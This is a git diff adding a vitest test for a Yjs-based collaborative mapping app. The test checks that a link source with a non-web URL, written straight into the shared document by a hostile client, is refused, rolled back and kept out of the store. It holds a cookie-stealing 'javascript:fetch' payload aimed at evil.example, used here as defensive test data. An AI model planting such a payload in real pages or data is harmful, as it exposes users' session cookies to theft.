@@ -13,6 +13,7 @@ import {
   SCHEMA_VERSION,
   setEmotion,
   spliceCardText,
+  updateCard,
 } from '@waymark/model';
 import { beforeEach, describe, expect, it } from 'vitest';
 import * as Y from 'yjs';
@@ -171,6 +172,39 @@ describe('every update is checked before it is applied, stored or relayed', () =
     ]);
     await waitFor(() => JSON.stringify(readMap(participant.doc)) === JSON.stringify(readMap(owner.doc)), 'one map');
     expect(readMap(owner.doc).problems).toEqual([]);
+  });
+
+  it('refuses an evidence source whose link is not a web address, written straight into the document', async () => {
+    const { map, owner, participant, stage, laneId } = await ownerAndParticipant();
+    const card = addCard(participant.doc, { stageId: stage.id, laneId, text: 'Fees come late' });
+    updateCard(participant.doc, card, { sources: [{ kind: 'quote', text: 'I only saw the fee at the end' }] });
+    await waitFor(() => readCards(owner.doc).find((c) => c.id === card)?.sources.length === 1, 'the quote at the owner');
+    // The model's own write refuses it, so a hostile client skips the model and sets the field itself.
+    expect(() => updateCard(participant.doc, card, { sources: [{ kind: 'link', text: 'Report', url: 'javascript:alert(1)' }] })).toThrow(
+      /url must be an http or https address/,
+    );
+    const record = participant.doc.getMap('cards').get(card) as Y.Map<unknown>;
+    const hostile = { kind: 'link', text: 'Report', url: 'javascript:fetch("//evil.example?"+document.cookie)', count: 0, origin: '' };
+    record.set('sources', [hostile]);
+    await waitFor(() => denials(participant).length === 1, 'the refusal');
+    expect(denials(participant)[0]!.reason).toMatch(/url must be an http or https address/);
+    // Taken back at the sender; never reached the owner or the store.
+    await waitFor(
+      () => readCards(participant.doc).find((c) => c.id === card)?.sources[0]?.kind === 'quote',
+      'the quote back at the sender',
+    );
+    expect(readCards(owner.doc).find((c) => c.id === card)?.sources).toEqual([
+      { kind: 'quote', text: 'I only saw the fee at the end', url: '', count: 0, origin: '' },
+    ]);
+    const stored = await running.server.store.load(map.id);
+    for (const bytes of [stored.snapshot, ...stored.updates]) expect(Buffer.from(bytes ?? []).includes('evil.example')).toBe(false);
+    // A web address is fine.
+    record.set('sources', [{ ...hostile, url: 'https://research.example/fees' }]);
+    await waitFor(
+      () => readCards(owner.doc).find((c) => c.id === card)?.sources[0]?.url === 'https://research.example/fees',
+      'the link at the owner',
+    );
+    expect(denials(participant)).toHaveLength(1);
   });
 
   it('takes a write that lands on a refused one as collected, on the server and at its sender', async () => {
